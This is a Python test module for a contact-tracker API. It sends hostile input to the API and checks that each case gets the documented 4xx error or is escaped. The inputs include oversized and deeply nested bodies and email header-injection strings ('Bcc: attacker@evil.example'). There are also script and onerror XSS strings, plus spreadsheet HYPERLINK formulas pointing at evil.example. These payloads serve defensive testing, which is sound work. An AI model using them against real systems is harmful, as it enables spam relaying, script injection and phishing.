"""Hostile input, through the API function as the HTTP API delivers it: oversized, deeply nested,
mislabelled and broken bodies get the documented 4xx; what members type cannot inject email
headers, run as HTML in the emails and public pages, or run as a formula in a spreadsheet.

Every route that takes a body is covered, read from the OpenAPI document, so that a new one is
covered too. The number of hostile requests goes to tests/artifacts/reliability-hostile.json.
"""

from __future__ import annotations

import base64
import csv
import email
import email.policy
import io
import json
import re
import time
from collections import Counter
from collections.abc import Iterator
from datetime import UTC, datetime
from html import unescape
from typing import Any
from urllib.parse import urlsplit

import pytest

from local.events import EventSources
from tests import summary
from tests.conftest import ROOT, ApiClient, Reply, invoke, sent_emails
from tests.imports.helpers import post_file
from tests.public_pages import PublicClient, text_of
from tracker.api.app import documented_media_types
from tracker.api.routes.transfer import IMPORT_ROUTE
from tracker.domain import Identity
from tracker.domain.clock import FixedClock

ARTIFACT = ROOT / "tests" / "artifacts" / "reliability-hostile.json"
hostile: Counter[str] = Counter()  # hostile requests sent, by kind

ADMIN = Identity(
    org_id="bridges",
    member_id="33333333-cccc-4ccc-8ccc-333333333333",
    email="dana.admin@example.org",
    groups=frozenset({"admins"}),
)
JSON_ROUTES = sorted(documented_media_types())  # every route with a documented body but imports
BODY_ROUTES = [*JSON_ROUTES, IMPORT_ROUTE]
KB = 1024


@pytest.fixture(scope="module", autouse=True)
def figures() -> Iterator[None]:
    started = time.monotonic()
    yield
    ARTIFACT.parent.mkdir(parents=True, exist_ok=True)
    figures = {
        "seconds": round(time.monotonic() - started, 1),
        "hostile_requests": sum(hostile.values()),
        "by_kind": dict(sorted(hostile.items())),
    }
    ARTIFACT.write_text(json.dumps(figures, indent=2) + "\n", encoding="utf-8")
    summary.report(
        "reliability",
        f"hostile input: {figures['hostile_requests']} hostile requests in {figures['seconds']} s "
        f"-> {ARTIFACT.relative_to(ROOT)}",
    )


@pytest.fixture
def contact_id(api: ApiClient) -> str:
    reply = api.post("/contacts", {"name": "Ana Lima", "last_contact_at": "2025-01-15T12:00:00Z"})
    assert reply.status == 201
    return str(reply.body["id"])


def send(
    api: ApiClient,
    route: str,
    contact_id: str,
    body: str | bytes,
    content_type: str | None = "application/json",
    *,
    kind: str,
) -> Reply:
    """`route` ("PATCH /contacts/{contact_id}") with this body, as the HTTP API delivers it: bytes
    that are not UTF-8 arrive base64-encoded, and routeKey names the route, not the path."""
    method, template = route.split(" ", 1)
    caller = ApiClient(ADMIN) if template.startswith("/org/") else api
    path = template.replace("{contact_id}", contact_id)
    raw = body if isinstance(body, bytes) else body.encode("utf-8", "surrogatepass")
    try:
        text, encoded = raw.decode("utf-8"), False
    except UnicodeDecodeError:
        text, encoded = base64.b64encode(raw).decode(), True
    event = caller.event(method, path, raw_body=text)
    if content_type is None:
        event["headers"].pop("content-type", None)
    else:
        event["headers"]["content-type"] = content_type
    event["isBase64Encoded"] = encoded
    event["routeKey"] = event["requestContext"]["routeKey"] = route
    hostile[kind] += 1
    return invoke(event)


def problem(reply: Reply, status: int, code: str | None = None) -> str | None:
    """What is wrong with this answer, if it is not `status` in the API's error shape."""
    body = reply.body
    if reply.status != status:
        return f"{reply.status} instead of {status}: {str(body)[:200]}"
    if not (isinstance(body, dict) and set(body) == {"error"} and isinstance(body["error"], dict)):
        return f"not the error shape: {str(body)[:200]}"
    if set(body["error"]) != {"code", "message", "details"} or not isinstance(body["error"]["details"], list):
        return f"not the error shape: {body}"
    if code and body["error"]["code"] != code:
        return f"code {body['error']['code']} instead of {code}"
    return None


def each(
    api: ApiClient,
    contact_id: str,
    cases: list[tuple[str, str, str | bytes, str | None]],
    status: int,
    code: str | None,
    *,
    kind: str,
) -> list[str]:
    """Send every (route, label, body, content type); the ones not answered as expected."""
    found = []
    for route, label, body, content_type in cases:
        wrong = problem(send(api, route, contact_id, body, content_type, kind=kind), status, code)
        if wrong:
            found.append(f"{route} [{label}]: {wrong}")
    return found


# ---------------------------------------------------------------- size, depth, type, encoding


def test_a_body_over_the_limit_is_a_413_before_anything_reads_it(api: ApiClient, contact_id: str) -> None:
    cases: list[tuple[str, str, str | bytes, str | None]] = []
    for route in BODY_ROUTES:
        limit = 4 * KB * KB if route == IMPORT_ROUTE else 64 * KB
        cases += [
            (route, "one byte over", '{"name": "' + "x" * (limit - 11) + '"}', "application/json"),
            # Counted in bytes, not characters: 2-byte characters fill it at half the length.
            (route, "2-byte characters", '{"name": "' + "é" * (limit // 2) + '"}', "application/json"),
            # And a binary (base64) body by the bytes it carries, not its base64 text.
            (route, "binary", b"\xff" + b"x" * limit, "application/octet-stream"),
        ]
    assert each(api, contact_id, cases, 413, "payload_too_large", kind="oversized") == []


def test_an_oversized_public_form_is_a_friendly_413_page() -> None:
    pages = PublicClient()
    for path in ("/log", "/unsubscribe", "/plan"):
        event = pages.event("POST", path, query={"t": "x"}, body="summary=" + "x" * (32 * KB))
        hostile["oversized"] += 1
        page = pages.call(event)
        assert page.status == 413, path
        assert page.headers["content-type"].startswith("text/html")


NESTED = {
    "arrays": "[" * 10_000 + "]" * 10_000,
    "objects": '{"a":' * 10_000 + "1" + "}" * 10_000,
    "in a field": '{"name": ' + "[" * 10_000 + "]" * 10_000 + "}",
}


def test_json_nested_ten_thousand_deep_is_a_400(api: ApiClient, contact_id: str) -> None:
    cases = [
        (route, label, body, "application/json") for route in JSON_ROUTES for label, body in NESTED.items()
    ]
    assert each(api, contact_id, cases, 400, "invalid_json", kind="nested") == []


OTHER_TYPES = [
    "text/plain",
    "text/html",
    "application/xml",
    "application/x-www-form-urlencoded",
    "multipart/form-data",  # without a boundary Powertools' own parser failed on it (500)
    "multipart/form-data; boundary=x",
    "application/json-patch+json",
    "image/png",
]


def test_a_body_of_another_type_is_a_415(api: ApiClient, contact_id: str) -> None:
    cases: list[tuple[str, str, str | bytes, str | None]] = [
        (route, kind, '{"name": "Ana"}', kind) for route in JSON_ROUTES for kind in OTHER_TYPES
    ]
    assert each(api, contact_id, cases, 415, "unsupported_media_type", kind="wrong content type") == []


def test_json_however_its_type_is_written_is_read_as_json(api: ApiClient, contact_id: str) -> None:
    spellings = ["APPLICATION/JSON", "application/json; charset=UTF-8", None]
    cases = [(route, str(kind), "{not json", kind) for route in JSON_ROUTES for kind in spellings]
    assert each(api, contact_id, cases, 400, "invalid_json", kind="json spelled differently") == []


def test_a_roster_is_json_or_csv_and_nothing_else(api: ApiClient, contact_id: str) -> None:
    roster = "email,name\nnew.member@example.org,New Member\n"
    for content_type in ("text/csv", "application/csv; charset=utf-8"):
        reply = send(api, "POST /org/members", contact_id, roster, content_type, kind="roster type")
        assert reply.status == 200, reply.body
    reply = send(api, "POST /org/members", contact_id, roster, "text/plain", kind="roster type")
    assert problem(reply, 415, "unsupported_media_type") is None


BROKEN_UTF8 = {
    "invalid byte": b'{"name": "Ana \xff"}',
    "overlong slash": b'{"name": "Ana \xc0\xaf"}',
    "encoded surrogate": b'{"name": "Ana \xed\xa0\x80"}',
    "truncated sequence": b'{"name": "Ana \xe2\x82"}',
    "latin-1": '{"name": "José"}'.encode("latin-1"),
}


def test_a_body_that_is_not_utf8_is_a_400(api: ApiClient, contact_id: str) -> None:
    cases: list[tuple[str, str, str | bytes, str | None]] = [
        (route, label, body, "application/json")
        for route in JSON_ROUTES
        for label, body in BROKEN_UTF8.items()
    ]
    cases.append(("POST /org/members", "csv", b"email,name\nana@example.org,Ana \xff\n", "text/csv"))
    assert each(api, contact_id, cases, 400, "invalid_json", kind="invalid utf-8") == []


def test_lone_surrogates_in_json_strings_are_refused_not_stored(api: ApiClient, contact_id: str) -> None:
    # Valid JSON, but no UTF-8 can carry it: it must not get as far as DynamoDB.
    found = []
    for route in JSON_ROUTES:
        for field in (
            "name",
            "display_name",
            "summary",
            "company",
            "email",
            "text",
            "notes",
            "current_focus",
        ):
            reply = send(api, route, contact_id, f'{{"{field}": "x\\ud800"}}', kind="lone surrogate")
            if not 400 <= reply.status < 500 or problem(reply, reply.status):
                found.append(f"{route} {field}: {reply.status} {reply.body}")
    assert found == []


def test_times_at_the_edges_of_the_calendar_are_refused_or_read_back(api: ApiClient, contact_id: str) -> None:
    # Year 1 in UTC is year 0 at +01:00; conversations before 1900 break week arithmetic.
    for when in ("0001-01-01T00:00:00+01:00", "0001-01-01T00:00:00Z", "1899-12-31T23:59:59Z"):
        reply = send(
            api,
            "POST /contacts/{contact_id}/interactions",
            contact_id,
            json.dumps({"when": when}),
            kind="dates",
        )
        assert problem(reply, 422, "validation_error") is None, (when, reply.body)
    # An import may still bring one in (this app's own CSV, edited); it must read back, not poison
    # every later read of the member's contacts (year 21 was stored as "21-08-26T...").
    header = api.get("/export", format="csv").body.removeprefix("\ufeff").splitlines()[0]
    columns = header.split(",")
    rows = [
        {"record": "contact", "id": "c1", "name": "Old Timer", "last_contact_at": "0021-08-26T12:55:01Z"},
        {"record": "conversation", "id": "i1", "contact_id": "c1", "when": "0001-01-01T00:00:00Z"},
    ]
    lines = [header, *(",".join(row.get(column, "") for column in columns) for row in rows)]
    hostile["dates"] += 1
    assert post_file(api, "\r\n".join(lines).encode()).status == 200
    for path in ("/contacts", "/export", "/picks/today", "/goals/plan"):
        reply = api.get(path)
        assert reply.status == 200, (path, reply.body)
    (old,) = [c for c in api.get("/export").body["contacts"] if c["name"] == "Old Timer"]
    assert old["last_contact_at"] == "0021-08-26T12:55:01Z"
    assert old["conversations"][0]["when"] == "0001-01-01T00:00:00Z"


def test_a_small_import_leaves_no_small_csv_field_limit_behind(api: ApiClient, contact_id: str) -> None:
    # The csv module's field limit is process-wide; the import once set it to its file's length.
    hostile["csv field limit"] += 2
    assert post_file(api, b"Name,Email\nAna,ana@example.org\n").status == 200
    roster = "email,name\nlong.name@example.org," + "N" * 150 + "\n"
    reply = send(api, "POST /org/members", contact_id, roster, "text/csv", kind="csv field limit")
    assert reply.status == 200, reply.body


# ---------------------------------------------------------------- email headers

LINE_BREAKS = {
    "CRLF": "\r\n",
    "LF": "\n",
    "CR": "\r",
    "NEL": "\x85",
    "line separator": "\u2028",
    "paragraph separator": "\u2029",
    "vertical tab": "\x0b",
    "form feed": "\x0c",
}
# Every field that is one line of text, as (route, body around the value, the field as errors name it).
SINGLE_LINE_FIELDS: list[tuple[str, Any, str]] = [
    ("POST /contacts", lambda v: {"name": v}, "body.name"),
    ("POST /contacts", lambda v: {"name": "Ana", "company": v}, "body.company"),
    ("POST /contacts", lambda v: {"name": "Ana", "role": v}, "body.role"),
    ("POST /contacts", lambda v: {"name": "Ana", "email": v}, "body.email"),
    ("POST /contacts", lambda v: {"name": "Ana", "tags": [v]}, "body.tags.0"),
    ("POST /contacts", lambda v: {"name": "Ana", "help_ideas": [v]}, "body.help_ideas.0"),
    ("POST /contacts", lambda v: {"name": "Ana", "next_step": {"text": v}}, "body.next_step.text"),
    ("PATCH /contacts/{contact_id}", lambda v: {"name": v}, "body.name"),
    ("POST /contacts/{contact_id}/interactions", lambda v: {"next_step": {"text": v}}, "body.next_step.text"),
    ("PATCH /me", lambda v: {"display_name": v}, "body.display_name"),
    ("PATCH /me", lambda v: {"email": v}, "body.email"),
    ("POST /org/members", lambda v: {"email": "new@example.org", "name": v}, "body.name"),
    ("POST /org/members", lambda v: {"email": v}, "body.email"),
]


def test_no_single_line_field_takes_a_line_break(api: ApiClient, contact_id: str) -> None:
    found = []
    for route, body, field in SINGLE_LINE_FIELDS:
        for label, line_break in LINE_BREAKS.items():
            value = f"eve@example.org{line_break}Bcc: attacker@evil.example"
            reply = send(
                api, route, contact_id, json.dumps(body(value)), kind="line break in a header-bound field"
            )
            wrong = problem(reply, 422, "validation_error")
            if wrong or field not in [d["field"] for d in reply.error["details"]]:
                found.append(f"{route} {field} [{label}]: {wrong or reply.error['details']}")
    assert found == []


ALLOWED_HEADERS = {
    "from",
    "to",
    "subject",
    "date",
    "list-unsubscribe",
    "list-unsubscribe-post",
    "mime-version",
    "content-type",
    "content-transfer-encoding",
}
ATTACKER = "attacker@evil.example"
ENCODED_BCC = base64.b64encode(f"x\r\nBcc: {ATTACKER}".encode()).decode()


def header_lines(raw: str) -> list[str]:
    """The top-level header block of a raw message, unfolded: one entry per header."""
    block = re.split(r"\r?\n\r?\n", raw, maxsplit=1)[0]
    return re.sub(r"\r?\n[ \t]+", " ", block).splitlines()


def test_nothing_a_member_types_reaches_a_header_of_the_emails(
    api: ApiClient, pipeline: EventSources, clock: FixedClock
) -> None:
    """Names and notes full of header syntax, by the API and by an import (which may carry line
    breaks in quoted cells), end up in the bodies of the daily and weekly emails, never in a header."""
    clock.at = datetime(2026, 11, 23, 15, tzinfo=UTC)  # Monday of week 48
    profile = {
        "display_name": f"=?utf-8?q?Sam=0D=0ABcc:_{ATTACKER}?=",
        "current_focus": f"design work\r\nBcc: {ATTACKER}\r\n\r\n--boundary\r\nContent-Type: text/html",
        "time_zone": "America/Chicago",
        "reminder_hour": 8,
        "reminder_channels": ["email"],
        "picks_per_day": 3,
    }
    assert api.patch("/me", profile).status == 200
    eve = {
        "name": f"Eve Bcc: {ATTACKER}",
        "company": f"=?utf-8?b?{ENCODED_BCC}?=",  # an encoded word that decodes to a line break
        "how_we_met": f"at a meetup\r\nBcc: {ATTACKER}\r\nSubject: you won",
        "help_ideas": [f"intro to Bcc: {ATTACKER}"],
        "next_step": {"text": f"Reply-To: {ATTACKER}", "due": "2026-11-27"},
        "last_contact_at": "2025-01-15T12:00:00Z",
    }
    created = api.post("/contacts", eve)
    assert created.status == 201, created.body
    logged = api.post(
        f"/contacts/{created.body['id']}/interactions",
        {"when": "2025-02-01T12:00:00Z", "summary": f"talked\r\n\r\nBcc: {ATTACKER}"},
    )
    assert logged.status == 201, logged.body
    rows = (
        f'name,email\r\n"Mallory\r\nBcc: {ATTACKER}",mallory@example.org\r\n'
        f'"Trent\rCc: {ATTACKER}",trent@example.org\r\n'
    )
    imported = api.post("/imports", raw_body=rows, headers={"content-type": "text/csv"})
    assert imported.status == 200, imported.body
    reached = api.post("/contacts", {"name": f"Reached\u00a0Bcc: {ATTACKER}"}).body["id"]
    assert api.post(f"/contacts/{reached}/interactions", {"channel": "call"}).status == 201
    hostile["header injection via data"] += 8

    for at in (datetime(2026, 11, 27, 14, tzinfo=UTC), datetime(2026, 11, 27, 22, tzinfo=UTC)):
        clock.at = at  # the daily reminder at 08:00, the weekly check at 16:00 Chicago time
        pipeline.fire_schedules(at)
        pipeline.drain()
    sent = [message.raw_data for message in sent_emails()]
    assert len(sent) == 2  # the daily reminder and the weekly check
    for raw in sent:
        lines = header_lines(raw)
        names = {line.split(":", 1)[0].strip().lower() for line in lines}
        assert names <= ALLOWED_HEADERS, lines
        assert not any(ATTACKER in line for line in lines), lines
        message = email.message_from_string(raw, policy=email.policy.default)
        assert all(ATTACKER not in str(value) for value in message.values())  # decoded, too
        plain = message.get_body(preferencelist=("plain",))
        assert plain is not None
        assert ATTACKER in plain.get_content()  # what they typed did arrive: in the body


def test_an_address_with_a_line_break_in_the_sign_in_token_is_not_taken(api: ApiClient) -> None:
    claims = {"email": f"eve@example.org\r\nBcc: {ATTACKER}"}
    eve = ApiClient(Identity("bridges", "44444444-dddd-4ddd-8ddd-444444444444", None), extra_claims=claims)
    hostile["header injection via the token"] += 1
    reply = eve.get("/me")
    assert reply.status == 200
    assert reply.body["email"] is None  # the member gives one with PATCH /me, where it is checked


# ---------------------------------------------------------------- HTML


def script(field: str) -> str:
    """A field's own payload: markup that runs if it is not escaped, with no spaces (a first name)."""
    return f"\"'><script>alert('{field}')</script><img/src=x/onerror=alert('{field}')>"


FIELDS = (
    "display_name",
    "current_focus",
    "name",
    "company",
    "role",
    "how_we_met",
    "shared_memory",
    "notes",
    "help_idea",
    "next_step",
    "summary",
    "help_offered",
    "help_received",
    "conversation_next_step",
    "reached",
    "reached_company",
    "reached_summary",
)
# Where they show: the daily email (picks, drafts, next steps), the weekly check (who was reached,
# the plan), the quick-log, one-tap and plan pages. Notes and help offered/received are not shown,
# nor is a display name that is no name (markup): greetings then leave it out ("Good morning.").
SHOWN_IN_HTML = {
    "current_focus",
    "name",
    "company",
    "role",
    "shared_memory",  # drafts open with it (before the last conversation, then how you met)
    "help_idea",
    "summary",
    "conversation_next_step",
    "reached",
}


def test_markup_in_any_field_is_escaped_in_the_emails_and_the_public_pages(
    api: ApiClient, pipeline: EventSources, clock: FixedClock
) -> None:
    clock.at = datetime(2026, 11, 23, 15, tzinfo=UTC)  # Monday of week 48
    profile = {
        "display_name": script("display_name"),
        "current_focus": script("current_focus"),
        "time_zone": "America/Chicago",
        "reminder_hour": 8,
        "reminder_channels": ["email"],
        "picks_per_day": 3,
    }
    assert api.patch("/me", profile).status == 200
    contact = {
        "name": script("name"),
        "email": "<script>email</script>@evil.example",
        "company": script("company"),
        "role": script("role"),
        "how_we_met": script("how_we_met"),
        "shared_memory": script("shared_memory"),
        "notes": script("notes"),
        "tags": ["<script>tag</script>"],
        "help_ideas": [script("help_idea")],
        "next_step": {"text": script("next_step"), "due": "2026-11-27"},
        "last_contact_at": "2025-01-15T12:00:00Z",
    }
    eve = api.post("/contacts", contact)
    assert eve.status == 201, eve.body
    conversation = {
        "when": "2025-02-01T12:00:00Z",
        "summary": script("summary"),
        "help_offered": script("help_offered"),
        "help_received": script("help_received"),
        "next_step": {"text": script("conversation_next_step"), "due": "2026-11-27"},
    }
    assert api.post(f"/contacts/{eve.body['id']}/interactions", conversation).status == 201
    mallory = api.post("/contacts", {"name": script("reached"), "company": script("reached_company")})
    assert (
        api.post(
            f"/contacts/{mallory.body['id']}/interactions", {"summary": script("reached_summary")}
        ).status
        == 201
    )
    hostile["markup"] += 2 + len(profile) + len(contact) + len(conversation)

    for at in (datetime(2026, 11, 27, 14, tzinfo=UTC), datetime(2026, 11, 27, 22, tzinfo=UTC)):
        clock.at = at  # the daily reminder at 08:00, the weekly check at 16:00 Chicago time
        pipeline.fire_schedules(at)
        pipeline.drain()
    shown: dict[str, str] = {}
    for number, raw in enumerate(sent_emails()):
        message = email.message_from_string(raw.raw_data, policy=email.policy.default)
        html = message.get_body(preferencelist=("html",))
        assert html is not None
        shown[f"email {number}"] = html.get_content()
        links = re.findall(r'href="(https://tracker\.example\.org/[^"]+)"', shown[f"email {number}"])
        pages = PublicClient()
        for link_number, link in enumerate(sorted({unescape(link) for link in links})):
            shown[f"{urlsplit(link).path} #{link_number} from email {number}"] = pages.get(link).html
    assert len(shown) >= 5, sorted(shown)  # two emails, /log, /unsubscribe and /plan at least

    for where, html in shown.items():
        assert not re.search(r"<\s*(script|img)\b", html, re.IGNORECASE), where
        assert "\"'>" not in html, where
    visible = {field for field in FIELDS if any(script(field) in text_of(html) for html in shown.values())}
    assert visible >= SHOWN_IN_HTML, SHOWN_IN_HTML - visible


# ---------------------------------------------------------------- CSV export


def formula(prefix: str, field: str) -> str:
    return f'{prefix}HYPERLINK("http://evil.example/{field}";"{field}")'


def test_no_cell_of_the_csv_export_starts_a_formula_whatever_field_it_came_from(api: ApiClient) -> None:
    # A tab or CR in front is trimmed on the way in, leaving = + - or @ at the start.
    originals: dict[str, str] = {}
    for prefix in ("=", "+", "-", "@", "\t=", "\r+", " \t-"):
        start = prefix.strip()

        def value(field: str, start: str = start, prefix: str = prefix) -> str:
            originals[f"{start}{field}"] = formula(start, field)
            return formula(prefix, field)

        contact = {
            "name": value("name"),
            "email": f"{start}cmd@evil.example" if start != "@" else "cmd@evil.example",
            "company": value("company"),
            "role": value("role"),
            "how_we_met": value("how_we_met"),
            "notes": value("notes"),
            "tags": [f"{start}SUM(1;2)"],
            "help_ideas": [value("help_idea")],
            # Replaced by the conversation's own next step below, so not in the export.
            "next_step": {"text": formula(prefix, "next_step"), "due": "2026-12-01"},
        }
        created = api.post("/contacts", contact)
        assert created.status == 201, created.body
        conversation = {
            "summary": value("summary"),
            "help_offered": value("help_offered"),
            "help_received": value("help_received"),
            "next_step": {"text": value("conversation_next_step")},
        }
        logged = api.post(f"/contacts/{created.body['id']}/interactions", conversation)
        assert logged.status == 201, logged.body
        hostile["formula"] += len(contact) + len(conversation)

    exported = api.get("/export", format="csv")
    assert exported.status == 200
    rows = list(csv.DictReader(io.StringIO(exported.body.removeprefix("\ufeff"))))
    assert len(rows) == 14  # 7 contacts, 7 conversations
    cells = [(row["record"], column, cell) for row in rows for column, cell in row.items() if cell]
    assert [cell for cell in cells if cell[2].startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    neutralised = {cell[2][1:] for cell in cells if cell[2].startswith("'")}
    assert set(originals.values()) <= neutralised  # every field's formula, each with its apostrophe
    # The JSON export, and the CSV imported again elsewhere, give back exactly what was typed (trimmed).
    typed = {formula(p, f) for p in "=+-@" for f in ("name", "company", "summary", "help_offered")}
    fresh = ApiClient(Identity("bridges", "55555555-eeee-4eee-8eee-555555555555", "fresh@example.org"))
    assert post_file(fresh, exported.body.encode()).body["new"] == 7
    for client in (api, fresh):
        contacts = client.get("/export", format="json").body["contacts"]
        texts = {c[f] for c in contacts for f in ("name", "company")}
        texts |= {c["conversations"][0][f] for c in contacts for f in ("summary", "help_offered")}
        assert typed <= texts
